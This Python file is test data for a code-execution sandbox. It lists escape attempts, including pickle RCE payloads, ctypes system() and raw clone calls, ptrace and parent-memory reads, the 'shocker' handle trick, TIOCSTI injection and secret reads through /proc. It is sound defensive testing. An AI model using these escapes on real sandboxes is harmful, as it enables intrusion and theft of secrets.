"""Escape attempts, as data: each is user source code a request could carry.

An attempt is judged by its effect (see witness.py), never by the exception it
raises: a file appearing or changing outside the scratch directory, a new
process, a connection or datagram reaching a listener the test opened, a
secret reaching the result, a signal reaching the test process, input pushed
into a terminal, a refused module in the user's hands, the worker's limits or
namespaces changing. The same list is driven through every worker that runs
user code: the runner's (via_runner.py, each attempt shipped as a function of a
user module) and a minimal child (child.py, each attempt exec'd as a module).

Sources use ``$placeholders`` (string.Template) that the witness fills with
Python literals: $outside_dir, $marker, $sentinel, $secret_path, $scratch,
$proof, $tcp_port, $udp_port, $unix_path, $abstract_name, $parent_pid,
$pty_fd, $client_dir, $client_module, $model_dir. An attempt stores what it
obtained in ``result``.

Many attempts first reach the real import function through an allowed module
(``torch.save.__builtins__``): the Python layer is not a boundary, so the OS
layer must stop what follows.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attempt:
    """One escape attempt.

    ``target``: for attempts that try to obtain a refused module or attribute
    (``"subprocess"``, ``"os:system"``): it must not end up usable. Such an
    attempt only counts under policies that refuse the target, unless
    ``always`` is set (the client's own modules must be unreachable under
    every policy). ``no_data``: the attempt reads another process's data; its
    result must be empty. ``control``: run it in the unconfined control worker
    to prove the attack works there (False where success would end that
    worker or touch the test process itself).
    """

    name: str
    goal: str
    source: str
    target: str = ""
    always: bool = False
    no_data: bool = False
    control: bool = True


BACKDOOR = "import torch\nimp = torch.save.__builtins__['__import__']\n"


def _with_backdoor(body: str) -> str:
    return BACKDOOR + body


ATTEMPTS: list[Attempt] = [
    # ------------------------------------------------ writing outside scratch
    Attempt("open_write", "write a file outside scratch with open()", "open($marker, 'w').write('escaped')"),
    Attempt(
        "os_open_write",
        "write with os.open via torch.save.__globals__['os']",
        "import torch\nos = torch.save.__globals__['os']\n"
        "fd = os.open($marker, os.O_CREAT | os.O_WRONLY, 0o644)\nos.write(fd, b'escaped')",
    ),
    Attempt("torch_save", "write with torch.save", "import torch\ntorch.save(torch.ones(2), $marker)"),
    Attempt("numpy_save", "write with numpy.save", "import numpy\nnumpy.save($marker, numpy.ones(2))"),
    Attempt(
        "numpy_memmap",
        "create a file with numpy.memmap",
        "import numpy\nm = numpy.memmap($marker, mode='w+', dtype='uint8', shape=(4,))\nm[:] = 1\nm.flush()",
    ),
    Attempt(
        "torch_from_file",
        "create a shared file mapping with torch.from_file",
        "import torch\nt = torch.from_file($marker, shared=True, size=16)\nt.fill_(1)",
    ),
    Attempt(
        "symlink_out",
        "write outside through a symlink planted in scratch",
        _with_backdoor(
            "os = imp('os')\nlink = $scratch + '/link_out'\n"
            "os.symlink($marker, link)\nopen(link, 'w').write('escaped')"
        ),
    ),
    Attempt(
        "rename_out",
        "move a file from scratch to outside",
        _with_backdoor("os = imp('os')\nsource = $scratch + '/to-move'\nopen(source, 'w').write('x')\nos.rename(source, $marker)"),
    ),
    Attempt(
        "hardlink_out",
        "hard-link a scratch file into the outside directory",
        _with_backdoor("os = imp('os')\nsource = $scratch + '/to-link'\nopen(source, 'w').write('x')\nos.link(source, $marker)"),
    ),
    Attempt("mkdir_out", "create a directory outside", _with_backdoor("imp('os').mkdir($marker)")),
    Attempt("mkfifo_out", "create a FIFO outside", _with_backdoor("imp('os').mkfifo($marker)")),
    Attempt("unlink_out", "delete a file outside", _with_backdoor("imp('os').unlink($sentinel)")),
    Attempt("truncate_out", "truncate a file outside", _with_backdoor("imp('os').truncate($sentinel, 0)")),
    Attempt("chmod_out", "chmod a file outside (root owns it)", _with_backdoor("imp('os').chmod($sentinel, 0o777)")),
    Attempt("chown_out", "chown a file outside", _with_backdoor("imp('os').chown($sentinel, 65534, 65534)")),
    Attempt("utime_out", "change a file's times outside", _with_backdoor("imp('os').utime($sentinel, (1, 1))")),
    Attempt(
        "xattr_out",
        "set an extended attribute on a file outside",
        _with_backdoor("imp('os').setxattr($sentinel, 'user.escaped', b'1')"),
    ),
    Attempt(
        "fchmod_readonly_fd",
        "chmod a file of the read-only model directory through a read-only descriptor",
        _with_backdoor(
            "os = imp('os')\nfd = os.open($model_dir + '/config.json', os.O_RDONLY)\nos.fchmod(fd, 0o777)"
        ),
    ),
    Attempt(
        "write_model_dir",
        "modify the read-only model directory",
        "open($model_dir + '/config.json', 'a').write('escaped')",
    ),
    Attempt(
        "tempfile_outside",
        "create a temporary file in a chosen outside directory",
        _with_backdoor("imp('tempfile').mkstemp(dir=$outside_dir)"),
    ),
    Attempt(
        "shm_symlink",
        "write outside through a symlink planted in /dev/shm",
        _with_backdoor(
            "os = imp('os')\nlink = '/dev/shm/sourcebox-escape-' + str(os.getpid())\n"
            "try:\n    os.symlink($marker, link)\n    open(link, 'w').write('escaped')\n"
            "finally:\n    os.path.lexists(link) and os.unlink(link)"
        ),
    ),
    Attempt(
        "write_proc_comm",
        "write under /proc (the worker's own name)",
        "open('/proc/self/comm', 'w').write('escaped')",
    ),
    # ------------------------------------------------------ new processes
    Attempt("os_system", "run a shell with os.system", _with_backdoor("result = imp('os').system('touch ' + $proof)")),
    Attempt(
        "subprocess_run",
        "run a program with subprocess",
        _with_backdoor("result = imp('subprocess').run(['/bin/sh', '-c', 'touch ' + $proof])"),
    ),
    Attempt(
        "posixsubprocess_fork_exec",
        "call _posixsubprocess.fork_exec directly (bypassed PEP 578 audit hooks)",
        _with_backdoor(
            "os = imp('os')\nr, w = os.pipe()\n"
            "pid = imp('_posixsubprocess').fork_exec([b'/bin/sh', b'-c', b'touch ' + $proof.encode()], "
            "[b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, "
            "None, None, None, -1, None, True)\nos.waitpid(pid, 0)"
        ),
    ),
    Attempt(
        "os_fork",
        "fork the worker",
        _with_backdoor(
            "os = imp('os')\npid = os.fork()\nif pid == 0:\n    open($proof, 'w').write('forked')\n    os._exit(0)\n"
            "os.waitpid(pid, 0)"
        ),
    ),
    Attempt(
        "os_posix_spawn",
        "start a program with os.posix_spawn",
        _with_backdoor(
            "os = imp('os')\npid = os.posix_spawn('/bin/sh', ['/bin/sh', '-c', 'touch ' + $proof], {})\n"
            "os.waitpid(pid, 0)"
        ),
    ),
    Attempt(
        "os_spawnv",
        "start a program with os.spawnv",
        _with_backdoor("os = imp('os')\nos.spawnv(os.P_WAIT, '/bin/sh', ['/bin/sh', '-c', 'touch ' + $proof])"),
    ),
    Attempt(
        "os_execv",
        "replace the worker with a shell (os.execv)",
        _with_backdoor("imp('os').execv('/bin/sh', ['/bin/sh', '-c', 'touch ' + $proof])"),
        control=False,
    ),
    Attempt(
        "memfd_fexecve",
        "copy the (readable) Python interpreter into a memfd and execute the descriptor",
        _with_backdoor(
            "os, sys = imp('os'), imp('sys')\nfd = os.memfd_create('x')\n"
            "os.write(fd, open(os.path.realpath(sys.executable), 'rb').read())\n"
            "os.execve(fd, ['python', '-c', 'open(%r, \"w\")' % $proof], dict(os.environ))"
        ),
        control=False,
    ),
    Attempt(
        "multiprocessing_process",
        "start a multiprocessing.Process",
        _with_backdoor(
            "mp = imp('multiprocessing').get_context('fork')\n"
            "p = mp.Process(target=open, args=($proof, 'w'))\np.start()\np.join()"
        ),
    ),
    Attempt(
        "forkpty",
        "fork through a pseudo-terminal (os.forkpty)",
        _with_backdoor(
            "os = imp('os')\npid, fd = os.forkpty()\nif pid == 0:\n    open($proof, 'w').write('forked')\n"
            "    os._exit(0)\nos.waitpid(pid, 0)"
        ),
    ),
    Attempt(
        "ctypes_system",
        "call libc system() through ctypes",
        _with_backdoor("result = imp('ctypes').CDLL(None).system(('touch ' + $proof).encode())"),
    ),
    Attempt(
        "ctypes_raw_clone",
        "raw clone system call without CLONE_THREAD",
        _with_backdoor(
            "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None)\nlibc.syscall.restype = ctypes.c_long\n"
            "pid = libc.syscall(56, 17, 0, 0, 0, 0)\n"
            "if pid == 0:\n    open($proof, 'w').write('cloned')\n    libc._exit(0)\n"
            "result = pid\nif pid > 0:\n    imp('os').waitpid(pid, 0)"
        ),
    ),
    Attempt(
        "numpy_ctypeslib",
        "load libc through numpy.ctypeslib and call system()",
        "import numpy.ctypeslib\nlibc = numpy.ctypeslib.load_library('libc.so.6', '/lib/x86_64-linux-gnu')\n"
        "result = libc.system(('touch ' + $proof).encode())",
    ),
    Attempt(
        "torch_ops_load_library",
        "load a native library with torch.ops.load_library, then run a shell from it",
        "import torch\ntorch.ops.load_library('/lib/x86_64-linux-gnu/libc.so.6')\n"
        "imp = torch.save.__builtins__['__import__']\n"
        "result = imp('ctypes').CDLL('libc.so.6').system(('touch ' + $proof).encode())",
    ),
    Attempt(
        "torch_load_pickle",
        "torch.load a pickle whose __reduce__ runs os.system",
        _with_backdoor(
            "path = $scratch + '/payload.pt'\n"
            "open(path, 'wb').write(b'cos\\nsystem\\n(S' + repr('touch ' + $proof).encode() + b'\\ntR.')\n"
            "torch.load(path, weights_only=False)"
        ),
    ),
    Attempt(
        "numpy_load_pickle",
        "numpy.load a pickle whose __reduce__ runs os.system",
        "import numpy\npath = $scratch + '/payload.npy'\n"
        "open(path, 'wb').write(b'cos\\nsystem\\n(S' + repr('touch ' + $proof).encode() + b'\\ntR.')\n"
        "numpy.load(path, allow_pickle=True)",
    ),
    Attempt(
        "subclasses_walk",
        "find subprocess.Popen through object.__subclasses__()",
        "popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
        "result = popen(['/bin/sh', '-c', 'touch ' + $proof]).wait()",
    ),
    Attempt(
        "traceback_frame_walk",
        "climb traceback frames to the worker's globals and use its os",
        "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n    frame = error.__traceback__.tb_frame\n"
        "while frame is not None and 'os' not in frame.f_globals:\n    frame = frame.f_back\n"
        "result = frame.f_globals['os'].system('touch ' + $proof)",
    ),
    Attempt(
        "gc_objects_walk",
        "find the real os module with gc.get_objects()",
        _with_backdoor(
            "gc = imp('gc')\nmodule = type(gc)\n"
            "os = [o for o in gc.get_objects() if type(o) is module and o.__name__ == 'os'][0]\n"
            "result = os.system('touch ' + $proof)"
        ),
    ),
    Attempt(
        "gc_referrers_builtins",
        "find the real builtins through gc.get_referrers and import subprocess",
        _with_backdoor(
            "gc = imp('gc')\nreal_import = [d['__import__'] for d in gc.get_referrers(len) if isinstance(d, dict) "
            "and getattr(d.get('__import__'), '__module__', '') == 'builtins'][0]\n"
            "result = real_import('subprocess').call(['/bin/sh', '-c', 'touch ' + $proof])"
        ),
    ),
    Attempt(
        "seccomp_stack_allow",
        "load an allow-everything seccomp filter on top, then fork",
        _with_backdoor(
            "sc = imp('pyseccomp')\nf = sc.SyscallFilter(sc.ALLOW)\nf.load()\n"
            "os = imp('os')\npid = os.fork()\nif pid == 0:\n    open($proof, 'w').write('forked')\n    os._exit(0)\n"
            "os.waitpid(pid, 0)"
        ),
    ),
    # ------------------------------------------------------------- network
    Attempt(
        "socket_tcp",
        "connect to a 127.0.0.1 listener with socket",
        _with_backdoor("imp('socket').create_connection(('127.0.0.1', $tcp_port), timeout=2).sendall(b'escaped')"),
    ),
    Attempt(
        "underscore_socket_tcp",
        "connect through the _socket C module",
        _with_backdoor("_socket = imp('_socket')\ns = _socket.socket(2, 1)\ns.connect(('127.0.0.1', $tcp_port))\ns.send(b'x')"),
    ),
    Attempt(
        "socket_ipv6_mapped",
        "reach the IPv4 listener through an IPv4-mapped IPv6 address",
        _with_backdoor(
            "socket = imp('socket')\ns = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)\ns.settimeout(2)\n"
            "s.connect(('::ffff:127.0.0.1', $tcp_port))\ns.sendall(b'x')"
        ),
    ),
    Attempt(
        "socket_udp",
        "send a datagram to a 127.0.0.1 listener",
        _with_backdoor(
            "socket = imp('socket')\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(b'escaped', ('127.0.0.1', $udp_port))"
        ),
    ),
    Attempt(
        "urllib_http",
        "HTTP request with urllib",
        _with_backdoor(
            "request = imp('urllib.request', fromlist=['urlopen'])\n"
            "request.urlopen('http://127.0.0.1:%d/' % $tcp_port, timeout=2)"
        ),
    ),
    Attempt(
        "ctypes_raw_socket",
        "raw socket/connect system calls through ctypes",
        _with_backdoor(
            "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None)\n"
            "fd = libc.socket(2, 1, 0)\n"
            "address = (ctypes.c_ubyte * 16)(2, 0, $tcp_port >> 8, $tcp_port & 255, 127, 0, 0, 1)\n"
            "result = (fd, libc.connect(fd, address, 16))"
        ),
    ),
    Attempt(
        "unix_socket_path",
        "connect to a Unix socket outside scratch by path",
        _with_backdoor(
            "socket = imp('socket')\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "s.connect($unix_path)\ns.sendall(b'escaped')"
        ),
    ),
    Attempt(
        "unix_socket_abstract",
        "connect to an abstract Unix socket",
        _with_backdoor(
            "socket = imp('socket')\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "s.connect($abstract_name)\ns.sendall(b'escaped')"
        ),
    ),
    Attempt(
        "unix_datagram_path",
        "send a Unix datagram to a socket path without connecting",
        _with_backdoor(
            "socket = imp('socket')\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "s.sendto(b'escaped', $unix_path + '.dgram')"
        ),
    ),
    # ------------------------------------------- reading what is not the worker's
    Attempt("read_secret", "read the client's file", "result = open($secret_path).read()"),
    Attempt(
        "read_secret_symlink",
        "read the client's file through a symlink in scratch",
        _with_backdoor("os = imp('os')\nlink = $scratch + '/link_in'\nos.symlink($secret_path, link)\nresult = open(link).read()"),
    ),
    Attempt(
        "read_secret_hardlink",
        "hard-link the client's file into scratch and read it",
        _with_backdoor("os = imp('os')\nlink = $scratch + '/hard_in'\nos.link($secret_path, link)\nresult = open(link).read()"),
    ),
    Attempt(
        "read_secret_proc_root",
        "read the client's file through /proc/self/root",
        "result = open('/proc/self/root' + $secret_path).read()",
    ),
    Attempt(
        "read_secret_parent_root",
        "read the client's file through /proc/<parent>/root",
        "result = open('/proc/%d/root' % $parent_pid + $secret_path).read()",
    ),
    Attempt(
        "read_secret_torch_from_file",
        "read the client's file with torch.from_file",
        _with_backdoor(
            "size = imp('os').path.getsize($secret_path)\n"
            "result = torch.from_file($secret_path, size=size, dtype=torch.uint8).numpy().tobytes()"
        ),
    ),
    Attempt(
        "read_secret_numpy",
        "read the client's file with numpy.fromfile",
        "import numpy\nresult = numpy.fromfile($secret_path, dtype='uint8').tobytes()",
    ),
    Attempt(
        "read_secret_linecache",
        "read the client's file with linecache",
        _with_backdoor("result = imp('linecache').getline($secret_path, 1)"),
    ),
    Attempt(
        "read_secret_open_by_handle",
        "name_to_handle_at + open_by_handle_at (the 'shocker' escape)",
        _with_backdoor(
            "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "handle = (ctypes.c_ubyte * 136)()\nctypes.c_uint.from_buffer(handle).value = 128\n"
            "mount_id = ctypes.c_int()\n"
            "if libc.name_to_handle_at(-100, $secret_path.encode(), handle, ctypes.byref(mount_id), 0) == 0:\n"
            "    fd = libc.open_by_handle_at(imp('os').open($outside_dir, 0), handle, 0)\n"
            "    result = imp('os').read(fd, 4096)"
        ),
    ),
    Attempt(
        "read_environment_secret",
        "find the worker's secret environment variable (os.environ, posix.environ, /proc/self/environ)",
        _with_backdoor(
            "result = (dict(imp('os').environ), dict(imp('posix').environ), "
            "open('/proc/self/environ', 'rb').read())"
        ),
    ),
    Attempt(
        "read_parent_environ",
        "read the test process's environment",
        "result = open('/proc/%d/environ' % $parent_pid, 'rb').read()",
        no_data=True,
    ),
    Attempt(
        "read_parent_memory",
        "read the test process's memory through process_vm_readv",
        _with_backdoor(
            "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None)\n"
            "maps = open('/proc/%d/maps' % $parent_pid).readline()\nstart = int(maps.split('-')[0], 16)\n"
            "buffer = ctypes.create_string_buffer(64)\n"
            "local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)\n"
            "remote = (ctypes.c_void_p * 2)(start, 64)\n"
            "count = libc.process_vm_readv($parent_pid, local, 1, remote, 1, 0)\n"
            "result = buffer.raw[:count] if count > 0 else None"
        ),
        no_data=True,
    ),
    Attempt(
        "read_client_module_by_path",
        "load the client's project module from its file with importlib machinery",
        _with_backdoor(
            "util = imp('importlib.util', fromlist=['spec_from_file_location'])\n"
            "spec = util.spec_from_file_location('stolen', $client_dir + '/' + $client_module + '.py')\n"
            "module = util.module_from_spec(spec)\nspec.loader.exec_module(module)\nresult = module.SECRET"
        ),
    ),
    Attempt(
        "read_client_module_sys_path",
        "put the client's project directory on sys.path and import from it",
        _with_backdoor("imp('sys').path.insert(0, $client_dir)\nresult = imp($client_module).SECRET"),
    ),
    # ------------------------------------------------------ other processes
    Attempt(
        "signal_parent",
        "send SIGUSR1 to the test process",
        _with_backdoor("os = imp('os')\nos.kill($parent_pid, imp('signal').SIGUSR1)"),
    ),
    Attempt(
        "signal_process_group",
        "signal the whole process group (kill(0))",
        _with_backdoor("os = imp('os')\nos.kill(0, imp('signal').SIGWINCH)"),
    ),
    Attempt(
        "signal_broadcast",
        "signal every process (kill(-1))",
        _with_backdoor("os = imp('os')\nos.kill(-1, imp('signal').SIGWINCH)"),
        control=False,
    ),
    Attempt(
        "signal_pidfd",
        "signal the test process through a pidfd",
        _with_backdoor("fd = imp('os').pidfd_open($parent_pid)\nimp('signal').pidfd_send_signal(fd, imp('signal').SIGUSR1)"),
    ),
    Attempt(
        "ptrace_parent",
        "attach to the test process with ptrace (PTRACE_SEIZE)",
        _with_backdoor("ctypes = imp('ctypes')\nresult = ctypes.CDLL(None).ptrace(0x4206, $parent_pid, 0, 0)"),
        control=False,
    ),
    Attempt(
        "tiocsti_terminal",
        "push a command into a terminal the worker holds (TIOCSTI)",
        _with_backdoor("imp('fcntl').ioctl($pty_fd, imp('termios').TIOCSTI, b'x')"),
    ),
    Attempt(
        "unshare_namespaces",
        "move the worker into new UTS and IPC namespaces",
        _with_backdoor("result = imp('ctypes').CDLL(None).unshare(0x04000000 | 0x08000000)"),
    ),
    Attempt(
        "raise_core_limit",
        "raise the core-dump limit back",
        _with_backdoor("resource = imp('resource')\nresource.setrlimit(resource.RLIMIT_CORE, (-1, -1))"),
        control=False,
    ),
    # ------------------------------------- refused modules through front doors
    Attempt("import_subprocess", "import statement", "import subprocess\nresult = subprocess", target="subprocess"),
    Attempt("dunder_import", "__import__ builtin", "result = __import__('subprocess')", target="subprocess"),
    Attempt(
        "builtins_dict_import",
        "__builtins__['__import__']",
        "result = __builtins__['__import__']('subprocess')",
        target="subprocess",
    ),
    Attempt(
        "importlib_import_module",
        "importlib.import_module",
        "import importlib\nresult = importlib.import_module('subprocess')",
        target="subprocess",
    ),
    Attempt("sys_modules_lookup", "sys.modules lookup", "import sys\nresult = sys.modules['subprocess']", target="subprocess"),
    Attempt("from_os_import_system", "from-import of a refused attribute", "from os import system\nresult = system", target="os:system"),
    Attempt("os_attribute_system", "attribute read of a refused attribute", "import os\nresult = os.system", target="os:system"),
    Attempt("module_via_attribute", "reach a refused module as an allowed module's attribute", "import torch\nresult = torch.os", target="os"),
    Attempt(
        "module_via_vars",
        "reach a refused module through vars() of an allowed module",
        "import torch\nresult = vars(torch)['os']",
        target="os",
    ),
    Attempt(
        "module_via_module_builtins",
        "an allowed module's __builtins__, then import",
        "import torch\nresult = torch.__builtins__['__import__']('subprocess')",
        target="subprocess",
    ),
    Attempt(
        "client_module_by_name",
        "import the client's project module by name",
        "result = __import__($client_module)",
        target="$client_module",
        always=True,
    ),
    # Last: in the unconfined control run, a Landlock domain (even one that
    # handles nothing relevant) would make the worker unable to read other
    # processes' /proc entries, hiding the effects of later attempts.
    Attempt(
        "landlock_reset",
        "apply a Landlock ruleset of its own (hoping to replace the worker's), then write",
        _with_backdoor(
            "ctypes = imp('ctypes')\nlibc = ctypes.CDLL(None)\nlibc.syscall.restype = ctypes.c_long\n"
            "attr = (ctypes.c_uint64 * 1)(1 << 6)\nfd = libc.syscall(444, attr, 8, 0)\n"
            "libc.prctl(38, 1, 0, 0, 0)\nlibc.syscall(446, fd, 0)\nopen($marker, 'w').write('escaped')"
        ),
    ),
]
